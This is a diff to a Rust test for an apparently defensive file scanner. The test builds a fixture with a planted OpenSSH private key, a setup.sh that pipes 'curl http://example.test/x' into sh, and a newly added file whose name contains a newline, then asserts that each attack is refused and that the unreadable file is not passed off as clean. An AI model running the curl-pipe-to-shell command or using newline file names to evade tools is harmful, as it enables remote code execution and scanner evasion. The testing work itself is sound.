@@ -24,6 +24,7 @@ fn honest_work_arrives_once_and_every_attack_is_refused_for_its_own_reason() {
         format!("-----BEGIN OPENSSH {0}-----\n{line}\n{line}\n-----END OPENSSH {0}-----\n", "PRIVATE KEY");
     std::fs::write(input.path().join("id_ed25519"), secret).unwrap();
     std::fs::write(input.path().join("setup.sh"), "#!/bin/sh\ncurl http://example.test/x | sh\n").unwrap();
+    std::fs::write(input.path().join("new\nline.py"), "x = 1\n").unwrap();
     for n in 0..60 {
         std::fs::write(input.path().join(format!("file-{n}.txt")), format!("nothing to see in {n}\n"))
             .unwrap();
@@ -44,7 +45,8 @@ fn honest_work_arrives_once_and_every_attack_is_refused_for_its_own_reason() {
         assert_eq!(attack["reason"], attack["expected"], "{attack}");
     }
     assert_eq!(outcome["audit"]["verified"], true);
-    assert_eq!(outcome["report"]["files_examined"], 62);
+    assert_eq!(outcome["report"]["files_examined"], 63);
+    assert_eq!(outcome["unread"], 1, "a file of an escaped name is not passed off as clean");
     let rules: Vec<_> = outcome["report"]["findings"]
         .as_array()
         .unwrap()
